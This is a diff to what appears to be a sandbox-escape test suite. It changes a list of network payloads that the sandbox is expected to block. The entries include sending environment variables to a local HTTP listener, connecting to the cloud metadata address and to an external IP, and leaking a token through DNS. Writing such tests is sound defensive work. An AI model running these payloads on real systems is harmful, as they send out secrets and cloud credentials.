@@ -169,8 +169,8 @@ PAYLOADS: list[tuple[str, str, set[str]]] = [
     # -- C.3 network
     ("tcp-host-loopback", "import socket\ns = socket.create_connection(('127.0.0.1', {tcp_port}), timeout=1)\n"
      "s.sendall(b'ESCAPED ' + b'{token}')", {FAILED}),
-    ("http-exfil", "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1:{tcp_port}/?d=' + "
-     "repr(dict(os.environ)), timeout=1)", {FAILED}),
+    ("http-exfil", "import os, urllib.parse, urllib.request\nurllib.request.urlopen('http://127.0.0.1:{tcp_port}/?d='"
+     " + urllib.parse.quote('ESCAPED' + repr(dict(os.environ))), timeout=1)", {FAILED}),
     ("tcp-external", "import socket; socket.create_connection(('192.0.2.1', 80), timeout=1)", {FAILED}),
     ("tcp-metadata", "import socket; socket.create_connection(('169.254.169.254', 80), timeout=1)", {FAILED}),
     ("dns-lookup", "import socket; print(socket.gethostbyname('{token}.example.com'))", {FAILED}),
